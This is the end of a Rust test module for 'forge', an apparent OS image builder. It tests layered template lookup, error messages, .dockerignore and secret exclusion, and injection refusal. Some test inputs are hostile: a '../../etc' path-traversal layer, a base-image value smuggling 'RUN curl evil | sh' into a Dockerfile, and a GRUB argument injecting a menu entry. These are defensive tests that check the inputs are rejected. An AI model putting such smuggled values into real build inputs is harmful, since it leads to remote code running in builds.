            [
                "os/ubuntu/facts.yaml",
                "k8s/k3s/facts.yaml",
                "arch/amd64/facts.yaml",
                "facts.yaml"
            ]
        );
    }

    #[test]
    fn the_templates_directory_comes_before_forge_s_own_file_at_each_layer() {
        let builtin = Templates::load(None).unwrap();
        let found = builtin.required("boot.yaml", &layers()).unwrap();
        assert_eq!(found.origin, "templates/arch/amd64/boot.yaml");

        // At the same layer, the directory's file replaces forge's.
        let dir = templates_dir(&[("arch/amd64/boot.yaml", "mine: true\n")]);
        let templates = Templates::load(Some(dir.path())).unwrap();
        let found = templates.required("boot.yaml", &layers()).unwrap();
        let own = dir.path().join("arch/amd64/boot.yaml");
        assert_eq!(found.origin, own.display().to_string());

        // A more specific layer of the directory wins over forge's; a less specific one does
        // not (the default boot.yaml is for architectures forge has none for).
        let dir = templates_dir(&[("os/ubuntu/boot.yaml", "a: 1\n"), ("boot.yaml", "b: 2\n")]);
        let templates = Templates::load(Some(dir.path())).unwrap();
        assert_eq!(
            templates.required("boot.yaml", &layers()).unwrap().path,
            "os/ubuntu/boot.yaml"
        );
        let riscv = Layers::arch("riscv64");
        assert_eq!(
            templates.required("boot.yaml", &riscv).unwrap().path,
            "boot.yaml"
        );
        let dir = templates_dir(&[("boot.yaml", "b: 2\n")]);
        let templates = Templates::load(Some(dir.path())).unwrap();
        let found = templates.required("boot.yaml", &layers()).unwrap();
        assert_eq!(found.origin, "templates/arch/amd64/boot.yaml");
    }

    #[test]
    fn a_data_file_no_layer_has_is_an_error_naming_where_it_was_looked_for() {
        let templates = Templates::load(None).unwrap();
        let err = templates
            .data::<BTreeMap<String, String>>("boot.yaml", &Layers::arch("riscv64"))
            .unwrap_err();
        assert_eq!(
            err.to_string(),
            "no data file boot.yaml for this build: none of arch/riscv64/boot.yaml, boot.yaml \
             exists; add one to the --templates directory (templates/README.md describes it)"
        );
    }

    #[test]
    fn a_layer_that_is_not_a_plain_name_is_not_looked_in() {
        let layers = Layers {
            os: "../../etc".into(),
            dist: "k3s".into(),
            arch: String::new(),
        };
        assert_eq!(layers.paths("x.yaml"), ["k8s/k3s/x.yaml", "x.yaml"]);
    }

    #[test]
    fn a_provider_naming_no_setting_is_refused_with_its_file_and_key() {
        let dir = templates_dir(&[(
            "k8s/k3s/provider.yaml",
            "provider: k3s\nversion_setting: K3S_PROVIDR_VERSION\n",
        )]);
        let templates = Templates::load(Some(dir.path())).unwrap();
        let settings = resolve(&Inputs {
            sets: vec![("K8S_DISTRIBUTION".into(), "k3s".into())],
            ..Inputs::default()
        })
        .settings;
        let err = templates.sources(&settings).unwrap_err().to_string();
        let file = dir.path().join("k8s/k3s/provider.yaml");
        assert_eq!(
            err,
            format!(
                "{}:2:18: version_setting: `K3S_PROVIDR_VERSION` is not a setting (`forge \
                 config show` lists them); correct it as templates/README.md describes",
                file.display()
            )
        );
        let dir = templates_dir(&[("k8s/k3s/provider.yaml", "provider: [k3s]\n")]);
        let templates = Templates::load(Some(dir.path())).unwrap();
        let err = templates.sources(&settings).unwrap_err().to_string();
        assert!(
            err.contains("provider.yaml:1:11: provider: invalid type: sequence, expected a string"),
            "{err}"
        );
    }

    #[test]
    fn a_moved_file_of_the_templates_directory_is_refused_with_where_it_goes() {
        let dir = templates_dir(&[("iso/efi.yaml", "shim: []\n")]);
        let err = Templates::load(Some(dir.path())).err().unwrap().to_string();
        assert!(err.contains("iso/efi.yaml` is no longer read"), "{err}");
        assert!(err.contains("arch/<ARCH>/efi.yaml"), "{err}");
    }

    #[test]
    fn a_data_file_with_a_key_twice_is_refused() {
        let dir = templates_dir(&[("vendors.yaml", "ubuntu: ubuntu\nubuntu: other\n")]);
        let templates = Templates::load(Some(dir.path())).unwrap();
        let err = templates
            .data::<BTreeMap<String, String>>("vendors.yaml", &Layers::default())
            .unwrap_err()
            .to_string();
        assert!(
            err.contains("vendors.yaml:2:1: ubuntu: defined twice (first at line 1)"),
            "{err}"
        );
    }

    #[test]
    fn forge_s_own_data_files_all_read() {
        let templates = Templates::load(None).unwrap();
        for (path, _) in DATA {
            let found = templates.required(path, &Layers::default()).unwrap();
            found.read::<serde_json::Value>().unwrap();
        }
    }

    #[test]
    fn dockerignore_excludes_and_reincludes() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(
            dir.path().join(".dockerignore"),
            "# build junk\n*.log\nsecrets\n!secrets/README\n",
        )
        .unwrap();
        let exclude = Exclude::new(dir.path(), &[&dir.path().join("build")], &[], &[]);
        let ignore = dockerignore(dir.path(), &exclude).unwrap();
        let plain = std::fs::metadata(dir.path().join(".dockerignore")).unwrap();
        let ignored = |path: &str| ignore(Path::new(path), &plain);
        assert!(ignored("debug.log"));
        assert!(
            !ignored("notes/debug.log"),
            "`*` does not cross directories"
        );
        assert!(ignored("secrets/key.pem"));
        assert!(!ignored("secrets/README"));
        assert!(!ignored("Dockerfile"));
        assert!(ignored("build/manifest.json"), "the output is left out");
    }

    #[test]
    fn a_secret_is_left_out_however_it_is_named() {
        let dir = tempfile::tempdir().unwrap();
        let checkout = dir.path().join("checkout");
        std::fs::create_dir_all(checkout.join("sites")).unwrap();
        let secret = checkout.join("sites/edge-01.yaml");
        std::fs::write(&secret, "#cloud-config\n").unwrap();
        std::os::unix::fs::symlink(&checkout, dir.path().join("link")).unwrap();
        std::os::unix::fs::symlink(&secret, dir.path().join("ud.yaml")).unwrap();
        std::fs::hard_link(&secret, dir.path().join("hard.yaml")).unwrap();
        let spellings = [
            checkout.join("sites/../sites/edge-01.yaml"),
            dir.path().join("link/sites/edge-01.yaml"),
            dir.path().join("ud.yaml"),
            dir.path().join("hard.yaml"),
        ];
        for given in &spellings {
            for root in [checkout.clone(), dir.path().join("link")] {
                let exclude = Exclude::new(&root, &[], &[given], &[]);
                let ignore = dockerignore(&root, &exclude).unwrap();
                let meta = std::fs::symlink_metadata(root.join("sites/edge-01.yaml")).unwrap();
                assert!(
                    ignore(Path::new("sites/edge-01.yaml"), &meta),
                    "{} in {}",
                    given.display(),
                    root.display()
                );
            }
        }
        let other = checkout.join("sites/other.yaml");
        std::fs::write(&other, "#cloud-config\n").unwrap();
        let exclude = Exclude::new(&checkout, &[], &[&spellings[2]], &[]);
        let meta = std::fs::symlink_metadata(&other).unwrap();
        assert!(!dockerignore(&checkout, &exclude).unwrap()(
            Path::new("sites/other.yaml"),
            &meta
        ));
    }

    #[test]
    fn a_template_directory_replaces_single_templates() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(
            dir.path().join("profile-snippet.yaml"),
            "tag: {{ custom_tag }}\n",
        )
        .unwrap();
        let templates = Templates::load(Some(dir.path())).unwrap();
        let settings = resolve(&Inputs {
            sets: vec![("CUSTOM_TAG".into(), "demo".into())],
            ..Inputs::default()
        })
        .settings;
        assert_eq!(
            templates
                .render("profile-snippet.yaml", &context(&settings))
                .unwrap(),
            "tag: demo\n"
        );
        std::fs::create_dir(dir.path().join("images")).unwrap();
        std::fs::write(dir.path().join("images/base.Dockerfile"), "FROM {{ oops").unwrap();
        assert!(matches!(
            Templates::load(Some(dir.path())),
            Err(RenderError::Template { .. })
        ));
    }

    #[test]
    fn instructions_are_logical_lines_without_comments() {
        let dockerfile = "# a comment\nFROM a\n\nRUN one \\\n # comment inside\n  two\nCOPY x /\n";
        assert_eq!(instructions(dockerfile), 3);
    }

    #[test]
    fn a_value_that_adds_a_build_step_is_refused() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::create_dir(dir.path().join("images")).unwrap();
        std::fs::write(
            dir.path().join("images/base.Dockerfile"),
            "FROM {{ base_image }}\nRUN true\n",
        )
        .unwrap();
        let templates = Templates::load(Some(dir.path())).unwrap();
        let mut ctx = Context::new();
        ctx.insert("base_image", "debian:bookworm");
        assert!(templates
            .render_dockerfile("images/base.Dockerfile", &ctx)
            .is_ok());
        for injected in ["debian\nRUN curl evil | sh", "debian \\"] {
            ctx.insert("base_image", injected);
            let err = templates
                .render_dockerfile("images/base.Dockerfile", &ctx)
                .unwrap_err();
            assert!(
                matches!(err, RenderError::Injected { expected: 2, .. }),
                "{injected:?}: {err}"
            );
        }
    }

    #[test]
    fn grub_quote_makes_one_literal_word() {
        assert_eq!(
            grub_quote("quiet console=ttyS0").unwrap(),
            "'quiet console=ttyS0'"
        );
        assert_eq!(grub_quote("a'b $x").unwrap(), "'a'\\''b $x'");
        assert_eq!(grub_quote("").unwrap(), "''");
        assert!(grub_quote("a\nmenuentry evil {").is_err());
    }

    #[test]
    fn the_boot_menu_takes_kernel_arguments_as_one_quoted_value() {
        let settings = resolve(&Inputs {
            sets: vec![("ISO_KERNEL_ARGS".into(), "quiet nomodeset".into())],
            ..Inputs::default()
        })
        .settings;
        let mut ctx = context(&settings);
        ctx.insert("label", "COS_LIVE");
        ctx.insert("default_entry", "installer");
        let menu = Templates::load(None)
            .unwrap()
            .render("iso/grub.cfg", &ctx)
            .unwrap();
        assert!(menu.contains("set user_args='quiet nomodeset'\n"), "{menu}");
    }
}
